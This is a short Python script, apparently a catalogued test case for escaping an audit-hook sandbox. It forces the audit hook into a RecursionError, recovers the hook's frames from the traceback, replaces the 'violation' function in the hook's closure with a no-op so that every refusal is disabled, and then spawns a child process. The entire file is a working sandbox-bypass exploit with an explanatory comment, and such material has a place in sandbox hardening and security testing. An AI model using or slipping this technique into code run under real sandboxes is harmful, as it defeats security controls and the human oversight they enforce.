# family: hook_frames
# reaches: process
# layer: runtime
# static: denied
# An audit event raised just below the recursion limit makes the audit hook itself overflow. The
# RecursionError leaves the hook with the hook's own frames in its traceback; traceback.walk_tb
# (library code, so the frame reads are allowed) hands them over, f_locals exposes the hook's
# closure, and replacing the `violation` cell of its `check` function disarms every refusal.
import os
import sys
import traceback


def hook_frames():
    caught = []

    def dive(n):
        if n:
            return dive(n - 1)
        try:
            sys.audit("app.heartbeat")
        except RecursionError as e:
            caught.append(e)

    for depth in range(sys.getrecursionlimit(), 0, -1):
        caught.clear()
        try:
            dive(depth)
        except RecursionError:
            continue
        for e in caught:
            frames = [f for f, _ in traceback.walk_tb(e.__traceback__) if "check" in f.f_locals]
            if frames:
                return frames
    return []


for frame in hook_frames():
    for cell in frame.f_locals["check"].__closure__:
        if getattr(cell.cell_contents, "__name__", "") == "violation":
            cell.cell_contents = lambda *args: None

pid = os.posix_spawn(sys.executable, [sys.executable, "-c", "print('child process')"], {})
print("spawned", pid, os.waitpid(pid, 0))
